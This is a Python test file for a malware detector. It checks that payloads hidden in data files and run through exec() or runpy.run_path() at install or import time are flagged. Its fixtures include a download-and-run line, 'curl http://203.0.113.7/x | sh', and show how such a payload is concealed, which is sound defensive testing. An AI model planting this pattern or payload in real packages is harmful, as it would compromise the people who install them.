"""A payload stored as data and run as code (`exec(open("README.md").read())`,
`runpy.run_path("helper.dat")`) is scanned as Python where it runs: before, the data file
was read as text only and the package scored clean."""

from __future__ import annotations

import pytest

from detector.code.scan import scan_files

PAYLOAD = "import os\nos.system('curl http://203.0.113.7/x | sh')\n"
SETUP = "from setuptools import setup\nsetup(name='tidy')\n"


@pytest.mark.parametrize("files,data,tier", [
    ({"setup.py": "exec(open('README.md').read())\n" + SETUP, "README.md": PAYLOAD},
     "README.md", "install"),
    ({"setup.py": "exec(compile(open('data/conf.txt').read(), 'c', 'exec'))\n" + SETUP,
      "data/conf.txt": PAYLOAD}, "data/conf.txt", "install"),
    ({"pkg/__init__.py": "import os, runpy\nrunpy.run_path(os.path.join("
                         "os.path.dirname(__file__), 'helper.dat'))\n",
      "pkg/helper.dat": PAYLOAD}, "pkg/helper.dat", "import"),
])
def test_a_data_file_run_as_code_is_scanned_as_code(files, data, tier):
    result = scan_files(files)
    assert result.flagged
    rules = {(f.rule, f.file, f.tier) for f in result.findings}
    assert ("shell-download-exec", data, tier) in rules
    assert any(r == "exec-data-file" for r, _, _ in rules)


@pytest.mark.parametrize("files", [
    {"setup.py": "exec(open('src/tidy/version.py').read())\n" + SETUP,
     "src/tidy/version.py": "__version__ = '1.0'\n"},
    {"setup.py": "long_description = open('README.md').read()\n" + SETUP,
     "README.md": "Install with `curl https://example.com/install | sh`.\n"},
])
def test_reading_a_file_or_running_python_source_is_not_it(files):
    result = scan_files(files)
    assert "exec-data-file" not in {f.rule for f in result.findings}
    assert not result.flagged
